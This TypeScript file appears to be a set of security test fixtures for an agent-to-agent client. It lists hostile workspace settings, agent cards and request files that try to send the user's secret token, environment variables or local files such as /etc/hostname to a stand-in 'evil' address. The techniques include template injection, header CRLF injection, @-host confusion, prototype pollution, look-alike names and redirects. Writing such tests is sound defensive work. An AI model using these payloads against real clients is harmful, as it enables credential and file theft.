/** What a workspace, or an agent that it leads to, tries in order to get what belongs to the user. Addresses are of servers on loopback. */
export interface Trick {
  readonly name: string;
  /** The workspace's value of `a2a.agents`. */
  readonly agents?: (at: Addresses) => unknown;
  /** The content of a request file of the workspace. */
  readonly file?: (at: Addresses) => unknown;
  /** The card of the user's own agent. */
  readonly card?: (at: Addresses) => unknown;
  /** The user's own agent answers so instead of with its card, or to a message. */
  readonly redirect?: { readonly of: 'card' | 'message'; readonly status: number; readonly to: (at: Addresses) => string };
}

export interface Addresses {
  /** Of the user's agent "Prod". */
  readonly prod: string;
  /** Of somebody else. */
  readonly evil: string;
}

const secret = 'Bearer {{$secret PROD}}';
const hostOf = (url: string): string => new URL(url).host;
const named =
  (name: string, entry: (at: Addresses) => unknown) =>
  (at: Addresses): unknown => ({ [name]: entry(at) });
const prod = (entry: (at: Addresses) => unknown) => named('Prod', entry);

export const settingsTricks: readonly Trick[] = [
  { name: "redefines the user's agent at another address", agents: prod(({ evil }) => ({ url: evil })) },
  { name: 'and asks for its secret', agents: prod(({ evil }) => ({ url: evil, headers: { Authorization: secret } })) },
  { name: 'and asks for a variable', agents: prod(({ evil }) => ({ url: evil, headers: { 'X-Key': '{{$env A2A_CANARY}}' } })) },
  {
    name: 'asks for a variable within text',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': 'a{{$env A2A_CANARY}}b' } })),
  },
  {
    name: 'asks for a secret under another name',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$secret PROD}}' } })),
  },
  {
    name: 'asks for two in one header',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$secret OTHER}}{{$secret PROD}}' } })),
  },
  {
    name: 'asks for one that was never sent',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$secret OTHER}}' } })),
  },
  { name: 'pads the template', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{   $secret   PROD   }}' } })) },
  { name: 'hides it after an escape', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '\\{{x}} {{$secret PROD}}' } })) },
  { name: 'asks for a file', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$file ../outside.txt}}' } })) },
  { name: 'asks for a question', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$prompt Password}}' } })) },
  { name: 'asks for a variable of files', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{PROD}}' } })) },
  {
    name: 'puts a template into the name of a header',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { '{{$secret PROD}}': 'x' } })),
  },
  {
    name: 'puts a template into the address',
    agents: named('New', ({ evil }) => ({ url: `${evil}/{{$secret PROD}}/{{$env A2A_CANARY}}` })),
  },
  { name: 'leads by its interface', agents: prod(at => ({ url: at.prod, interface: { url: at.evil } })) },
  {
    name: 'leads by its interface and asks for the secret',
    agents: prod(at => ({ url: at.prod, interface: { url: at.evil }, headers: { Authorization: secret } })),
  },
  {
    name: 'allows an origin and asks for the secret',
    agents: prod(at => ({ url: at.evil, origins: [at.prod], headers: { Authorization: secret } })),
  },
  {
    name: 'allows an origin besides that of the user',
    agents: prod(at => ({ url: at.prod, origins: [at.evil], interface: { url: `${at.evil}/rpc` }, headers: { Authorization: secret } })),
  },
  {
    name: 'looks like the user’s host before an @',
    agents: prod(at => ({ url: `http://${hostOf(at.prod)}@${hostOf(at.evil)}/`, headers: { A: secret } })),
  },
  { name: 'writes its scheme in capitals', agents: prod(at => ({ url: at.evil.replace('http', 'HTTP'), headers: { A: secret } })) },
  { name: 'speaks gRPC', agents: prod(at => ({ url: at.evil.replace('http:', 'grpc:'), headers: { a: secret } })) },
  {
    name: 'wants another binding',
    agents: prod(at => ({ url: at.evil, interface: { protocolBinding: 'HTTP+JSON' }, headers: { A: secret } })),
  },
  { name: 'calls itself no workspace', agents: prod(at => ({ url: at.evil, ofWorkspace: false, headers: { A: secret } })) },
  { name: 'calls itself the user’s', agents: prod(at => ({ url: at.evil, ownAgent: true, scope: 'user', headers: { A: secret } })) },
  { name: 'has the name with a space', agents: named('Prod ', at => ({ url: at.evil, headers: { A: secret } })) },
  { name: 'has the name with a character that nobody sees', agents: named('Pr\u200bod', at => ({ url: at.evil, headers: { A: secret } })) },
  { name: 'has the user’s address as a name', agents: at => ({ [at.prod]: { url: at.evil, headers: { A: secret } } }) },
  {
    name: 'has the name of a prototype',
    agents: () => JSON.parse('{ "__proto__": { "url": "http://127.0.0.1:1", "headers": { "A": "{{$secret PROD}}" } } }') as unknown,
  },
  {
    name: 'has headers in a prototype',
    agents: prod(at => ({
      url: at.evil,
      headers: JSON.parse(`{ "__proto__": { "A": "${secret}" }, "constructor": "${secret}" }`) as unknown,
    })),
  },
  { name: 'has a list of headers', agents: prod(at => ({ url: at.evil, headers: [secret] })) },
  { name: 'has only headers', agents: prod(() => ({ headers: { A: secret } })) },
  { name: 'turns extensions on', agents: prod(at => ({ url: at.evil, extensions: ['{{$secret PROD}}', '{{$env A2A_CANARY}}'] })) },
  {
    name: 'names a certificate',
    agents: prod(at => ({
      url: at.evil,
      tls: { certificate: '../outside.txt', key: '/etc/hostname', passphrase: '{{$secret PROD}}', rejectUnauthorized: false },
    })),
  },
  { name: 'names a proxy', agents: prod(at => ({ url: at.prod, proxy: at.evil })) },
];

const jsonRpc = (url: string, more: object = {}): object => ({ url, protocolBinding: 'JSONRPC', protocolVersion: '1.0', ...more });
const card = (supportedInterfaces: readonly unknown[], more: object = {}): object => ({
  name: 'Prod',
  description: '',
  version: '1',
  capabilities: {},
  defaultInputModes: [],
  defaultOutputModes: [],
  skills: [],
  supportedInterfaces,
  ...more,
});

export const cardTricks: readonly Trick[] = [
  { name: 'leads elsewhere', card: ({ evil }) => card([jsonRpc(evil)]) },
  { name: 'leads elsewhere first', card: at => card([jsonRpc(at.evil), jsonRpc(at.prod)]) },
  { name: 'leads to another port of the host', card: ({ evil }) => card([jsonRpc(`${evil}/rpc`)]) },
  { name: 'leads elsewhere without a scheme', card: ({ evil }) => card([jsonRpc(evil.slice('http:'.length))]) },
  { name: 'leads elsewhere with backslashes', card: ({ evil }) => card([jsonRpc(evil.replaceAll('/', '\\'))]) },
  { name: 'has the host before an @', card: at => card([jsonRpc(`http://${hostOf(at.prod)}@${hostOf(at.evil)}`)]) },
  { name: 'leads to gRPC elsewhere', card: ({ evil }) => card([jsonRpc(hostOf(evil), { protocolBinding: 'GRPC' })]) },
  { name: 'leads to HTTP+JSON elsewhere', card: ({ evil }) => card([jsonRpc(evil, { protocolBinding: 'HTTP+JSON' })]) },
  { name: 'leads to another version elsewhere', card: at => card([jsonRpc(at.prod), jsonRpc(at.evil, { protocolVersion: '0.3' })]) },
  {
    name: 'is of 0.3 and leads elsewhere',
    card: ({ evil }) => ({
      ...card([]),
      supportedInterfaces: undefined,
      protocolVersion: '0.3.0',
      url: evil,
      preferredTransport: 'JSONRPC',
    }),
  },
  {
    name: 'names a token endpoint elsewhere',
    card: at =>
      card([jsonRpc(at.prod)], {
        securitySchemes: { o: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${at.evil}/token`, scopes: {} } } } } },
        securityRequirements: [{ schemes: { o: { list: [] } } }],
      }),
  },
  {
    name: 'names pictures and pages elsewhere',
    card: at =>
      card([jsonRpc(at.prod)], { iconUrl: `${at.evil}/i.png`, documentationUrl: at.evil, provider: { organization: 'x', url: at.evil } }),
  },
  { name: 'has templates in its addresses', card: at => card([jsonRpc(`${at.evil}/{{$secret PROD}}`)]) },
  ...[301, 302, 303, 307, 308].flatMap((status): Trick[] => [
    { name: `is redirected with ${status}`, redirect: { of: 'card', status, to: ({ evil }) => `${evil}/taken` } },
    { name: `redirects the message with ${status}`, redirect: { of: 'message', status, to: ({ evil }) => `${evil}/taken` } },
  ]),
];

const asks = (agent: string, more: object = {}): object => ({ agent, message: 'hello', ...more });

export const fileTricks: readonly Trick[] = [
  { name: 'sends a secret elsewhere in a header', file: at => asks(at.evil, { headers: { Authorization: secret } }) },
  { name: 'in a header of the whole file', file: at => ({ headers: { A: secret }, requests: [asks(at.evil)] }) },
  { name: 'in its message', file: at => asks(at.evil, { message: secret }) },
  { name: 'in its metadata', file: at => ({ agent: at.evil, params: { message: { parts: [{ text: 'x' }], metadata: { a: secret } } } }) },
  { name: 'through a variable', file: at => ({ ...asks(at.evil, { headers: { A: '{{a}}' } }), variables: { a: '{{b}}', b: secret } }) },
  { name: 'one that was never sent', file: at => asks(at.evil, { headers: { A: '{{$secret OTHER}}' } }) },
  { name: 'in the address', file: at => asks(`${at.evil}/{{$secret PROD}}`) },
  { name: 'in the query', file: at => asks(`${at.evil}/?a={{$secret OTHER}}`) },
  { name: 'in the host', file: () => asks('http://{{$secret PROD}}.example.invalid/') },
  { name: 'in a raw body', file: at => ({ agent: at.evil, jsonrpc: '2.0', id: 1, method: 'SendMessage', params: { a: secret } }) },
  { name: 'in rows of data', file: at => ({ ...asks(at.evil, { message: '{{a}}' }), each: [{ a: secret }] }) },
  {
    name: 'with an agent in a variable',
    file: at => ({ ...asks('{{where}}', { headers: { A: secret } }), variables: { where: at.evil } }),
  },
  { name: 'over another interface of the user’s agent', file: at => asks('Prod', { interface: { url: at.evil } }) },
  {
    name: 'over another interface, with a secret',
    file: at => asks('Prod', { interface: { url: `${at.evil}/a` }, headers: { A: secret } }),
  },
  { name: 'with another Host', file: at => asks('Prod', { headers: { Host: hostOf(at.evil) } }) },
  {
    name: 'with a body of its own length',
    file: () => asks('Prod', { headers: { 'Content-Length': '0', 'Transfer-Encoding': 'chunked' } }),
  },
  { name: 'with headers in a header', file: at => asks(at.evil, { headers: { A: `x\r\nB: ${secret}` } }) },
  { name: 'a file from outside', file: at => asks(at.evil, { message: '{{$file ../outside.txt}}' }) },
  { name: 'a file from outside in a header', file: at => asks(at.evil, { headers: { A: '{{$file ../outside.txt as text}}' } }) },
  { name: 'a file by its whole path', file: at => asks(at.evil, { message: '{{$file /etc/hostname}} {{$file ../outside.txt}}' }) },
  { name: 'a password that is asked for', file: at => asks(at.evil, { headers: { A: '{{$prompt Password of Prod}}' } }) },
  {
    name: 'where an answer says',
    file: at => ({
      requests: [
        { name: 'one', agent: 'Prod', message: at.evil },
        { agent: '{{one.message.parts[0].text}}', message: 'x', headers: { A: secret } },
      ],
    }),
  },
  {
    name: 'what an answer says of it',
    file: at => ({
      requests: [
        { name: 'one', agent: 'Prod', message: secret },
        { agent: at.evil, message: '{{one.message.parts[0].text}}' },
      ],
    }),
  },
  { name: 'to gRPC', file: at => asks(at.evil.replace('http:', 'grpc:'), { headers: { a: secret } }) },
];
